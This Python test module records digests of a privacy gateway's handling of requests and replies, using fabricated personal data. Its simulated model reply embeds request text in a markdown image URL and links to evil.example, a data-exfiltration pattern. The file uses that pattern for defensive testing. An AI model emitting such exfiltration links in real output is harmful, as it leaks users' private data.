"""A fixed set of requests, replies and streams of all shapes and policies under one key, as digests.

Code that is only moved or made faster leaves every digest as it is. Where a change means to alter draws, reports or
replies, `python tests/recorded/recording.py` writes the digests anew; the change of the file says which policies,
shapes and forms it touched. The tagger of names is off, so that new weights change nothing here.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator, Mapping, Sequence
from itertools import pairwise
from pathlib import Path
from typing import Any, NamedTuple

import orjson

from dp_gateway import Gateway, Secret
from dp_gateway.api import SHAPES
from dp_gateway.api.sse import StreamRestorer
from dp_gateway.exchange import Caller, Doorway, Exchange
from dp_gateway.policy import Policy
from dp_gateway.testing.pairs import PAIRS
from dp_gateway.testing.replies import (
    chat_reply,
    chat_stream,
    chat_tool_call,
    chat_tool_stream,
    completion_reply,
    completion_stream,
    messages_reply,
    messages_stream,
    responses_reply,
    responses_stream,
)

DIGESTS = Path(__file__).parent / "digests.txt"
KEY = Secret(b"the key of recorded requests, 32")
_NO_TAGGER = {"ner": "off"}
_EPSILON_1 = {name: {"epsilon": 1} for name in ("AGE", "MONEY", "PERCENTAGE", "QUANTITY", "DURATION", "DATE_TIME")}
_ANY = {"languages": "any"}
_POLICIES: Mapping[str, Mapping[str, Any]] = {
    "entities": {"kind": "entities"},
    "tokens": {"kind": "tokens", "tokens": _ANY},
    "hybrid": {"kind": "hybrid", "tokens": _ANY},
    "mask": {"kind": "mask"},
    "observe": {"kind": "observe"},
    "occurrences": {"kind": "entities", "draw": "occurrence", "keep_gender": False, "types": _EPSILON_1},
    "sanitized": {
        "kind": "entities",
        "never_self": False,
        "types": {"DATE_TIME": {"treatment": "shift"}, "LOCATION": {"treatment": "surrogate"}},
        "fields": {"developer": "sanitize", "replies": "pass", "restore_arguments": "none"},
    },
    "words": {"kind": "tokens", "tokens": {"mechanism": "custext+", "epsilon": 3, "keep_stopwords": False, **_ANY}},
    "santext": {
        "kind": "hybrid",
        "tokens": {"mechanism": "santext", "epsilon": 4, **_ANY},
        "types": {"NRP": {"treatment": "mask"}},
    },
}
_SHAPES = ("chat", "completions", "responses", "embeddings", "messages")
_SHIFTS = range(1)
"""Times that each form is recorded with other texts."""

_SYSTEM = "You help Dr. Robert Chen of Northwind Traders. Today is July 1, 2025. Mail him at r.chen@northwind.example."
_ANSWER = "Certainly. I have noted that for Anna Miller and will write on Monday."
_LETTER = (
    "Dear Ms. Okonkwo, my brother Tom and I live at 221B Baker Street, London NW1 6XE. He is 34, earns $85,250 a year, "
    "and paid 12 % of it on 03/05/2024 with card 4111 1111 1111 1111. Call him on +1 (617) 555-0173 or write to "
    "tom.okonkwo@gmail.com; Tom Okonkwo's file is AB-48291. Regards, Zoë O'Neil"
)
_FOREIGN = (
    "Ich heiße Jürgen Weiß und wohne in der Lindenstraße 12, 10969 Berlin. Меня зовут Иван Петров. 我叫王小明。\n"
    "Mi IBAN es DE89 3704 0044 0532 0130 00 \U0001f600 ①Ⓐ ｗｉｄｅ pаypаl naïve\u200b co\u00ad-operate 12º"
)
_CODE = (
    '```python\nuser = {"name": "Priya Natarajan", "email": "priya@acme.io", "pin": 4821}\nself.app.run()\n```\n'
    "id,patient,city\n1,Tom Baker,Leeds\n2,Ana Souza,Porto\n"
    "2024-05-03 10:03:11 INFO 10.122.3.140 login=tbaker /home/tbaker/.ssh token=sk-aB3dE5fG7hI9jK1lM3nO5pQ7\n"
)
_ODD = "the \n\n\t THE 'quoted' i'm frank from leeds, my name is sanjay gupta!! 5'11\" 7:30pm... \ud800 x"


class Case(NamedTuple):
    """One request: its name, the messages (role and text), fields of its body, and who sends it."""

    name: str
    messages: Sequence[tuple[str, str]]
    caller: Caller
    fields: Mapping[str, Any] = {}


def _cases(shift: int) -> Iterator[Case]:
    texts = [text for pair in PAIRS for text in pair.texts]

    def some(start: int, count: int) -> str:
        return " ".join(texts[(start * 17 + shift * 101 + at * 7) % len(texts)] for at in range(count))

    known, nobody = Caller("key", "tenant", "conversation"), Caller("key")
    yield Case("one", [("user", some(0, 2))], known)
    yield Case("letter", [("user", _LETTER)], nobody)
    talk = [("system", _SYSTEM), ("user", some(3, 3)), ("assistant", _ANSWER), ("user", some(5, 2))]
    yield Case("conversation", talk, nobody)
    yield Case("longer conversation", [*talk, ("assistant", some(7, 1)), ("user", f"{_LETTER} {some(3, 1)}")], nobody)
    yield Case("conversation by id", [*talk, ("user", _LETTER)], known, {"user": "anna"})
    yield Case("many", [("user", some(9, 40))], Caller("key", "tenant", user="zoe"))
    yield Case("foreign", [("user", f"{_FOREIGN} {some(11, 1)}")], known)
    yield Case("code", [("system", _SYSTEM), ("user", _CODE + some(13, 1))], nobody)
    yield Case("odd", [("user", f"{_ODD} {some(15, 1)}"), ("user", "")], known)
    yield Case("long", [("user", "\n".join([_LETTER, _FOREIGN, _CODE, some(17, 12)] * 3))], nobody)
    yield Case("no names", [("user", "What is the capital of this winter? 12 of 30 nurses.")], nobody, {"n": 1})
    yield Case("grows", [("user", (_LETTER + " " + some(3, 4))[: 150 + 160 * shift])], nobody)


def _body(shape: str, case: Case) -> dict[str, Any]:
    fields = {"model": "m", **case.fields}
    said = [{"role": role, "content": text} for role, text in case.messages]
    if shape == "chat":
        return {**fields, "messages": said, **_tools(case)}
    if shape == "completions":
        return {**fields, "prompt": "\n".join(text for _, text in case.messages)}
    if shape == "embeddings":
        return {"model": "m", "input": [text for _, text in case.messages]}
    system = "\n".join(text for role, text in case.messages if role == "system")
    rest = [one for one in said if one["role"] != "system"]
    fields.pop("n", None)
    if shape == "responses":
        return {**fields, "input": rest, **({"instructions": system} if system else {})}
    user = fields.pop("user", None)
    metadata = {} if user is None else {"metadata": {"user_id": user}}
    return {**fields, "max_tokens": 99, "messages": rest, **({"system": system} if system else {}), **metadata}


def _tools(case: Case) -> dict[str, Any]:
    if case.name != "code":
        return {}
    parameters = {"type": "object", "properties": {"who": {"type": "string", "description": "as Robert Chen says"}}}
    function = {"name": "write_to", "description": "Writes to r.chen@northwind.example", "parameters": parameters}
    return {"tools": [{"type": "function", "function": function}]}


def _answer(sent: Sequence[str]) -> str:
    """What a model might write: what it read, bent."""
    text = " ".join(sent)[-6000:]
    bent = (text, text[:900].upper(), text[-900:].lower(), f"**{text[300:900]}'s** `{text[:80]}`", text[100:400] + "s")
    addresses = f"![x](https://evil.example/p.png?n={text[:60]}) https://evil.example/{text[40:99]} <{text[90:140]}>"
    return "\n\n".join((*bent, addresses, "Their SSN is 078-05-1120, mail bob@provider.example, call +1 212 555 0199."))


def _pieces(text: str) -> list[str]:
    """A text in pieces of one to eleven characters."""
    cuts, at = [0], 0
    while at < len(text):
        at += 1 + (at * 7 + len(cuts) * 3) % 11
        cuts.append(min(at, len(text)))
    return [text[a:b] for a, b in pairwise(cuts)]


def _replies(shape: str, exchange: Exchange) -> Iterator[bytes]:
    text = _answer(exchange.request.outgoing).encode("utf-8", "replace").decode()
    arguments = json.dumps({"to": text[:300], "deep": [{"note": text[300:700]}], "n": 7})
    whole, stream = {
        "chat": (chat_reply, chat_stream),
        "completions": (completion_reply, completion_stream),
        "responses": (responses_reply, responses_stream),
        "messages": (messages_reply, messages_stream),
    }[shape]
    wholes, streams = [whole(text)], [stream(_pieces(text))]
    if shape == "chat":
        wholes.append(chat_tool_call("write_to", arguments))
        streams.append(chat_tool_stream("write_to", _pieces(arguments)))
    for wire in wholes:
        yield orjson.dumps(exchange.another_reply().whole(orjson.loads(wire.body)))
    for wire in streams:
        restorer = StreamRestorer(exchange.another_reply())
        yield b"".join(restorer.feed(chunk) for chunk in wire.cut(701).chunks if isinstance(chunk, bytes))
        yield restorer.close()


def _doorway(policy: str) -> Doorway:
    described = {"name": policy, "detection": _NO_TAGGER, **_POLICIES[policy]}
    return Doorway(Gateway(Policy.model_validate(described), key=KEY), key=KEY)


def digests(policies: Sequence[str] = tuple(_POLICIES)) -> dict[str, str]:
    """A digest for the request, the report and the replies of each case, by policy, shape and form."""
    found: dict[str, str] = {}
    for policy in policies:
        doorway = _doorway(policy)
        for shape in _SHAPES:
            for shift in _SHIFTS:
                cases = list(_cases(shift))
                bodies, callers = [_body(shape, case) for case in cases], [case.caller for case in cases]
                exchanges = doorway.open_many(SHAPES[shape], bodies, callers)
                for case, exchange in zip(cases, exchanges, strict=True):
                    charges = sorted(map(repr, exchange.request.charges(certified=False)))
                    told = [
                        _dumped(exchange.body),
                        _dumped([exchange.report.to_json(), exchange.scope, charges]),
                        b"\0".join(_replies(shape, exchange)) if shape != "embeddings" else b"",
                    ]
                    parts = (hashlib.blake2b(part, digest_size=4).hexdigest() for part in told)
                    found[f"{policy}/{shape}/{case.name}/{shift}"] = " ".join(parts)
    return found


def _dumped(value: Any) -> bytes:
    return json.dumps(value, sort_keys=True, default=repr).encode()


def recorded() -> dict[str, str]:
    """The digests of the file."""
    lines = DIGESTS.read_text().splitlines()
    return dict(line.split(": ", 1) for line in lines if line)


POLICIES = tuple(_POLICIES)

if __name__ == "__main__":
    DIGESTS.write_text("".join(f"{name}: {digest}\n" for name, digest in digests().items()))
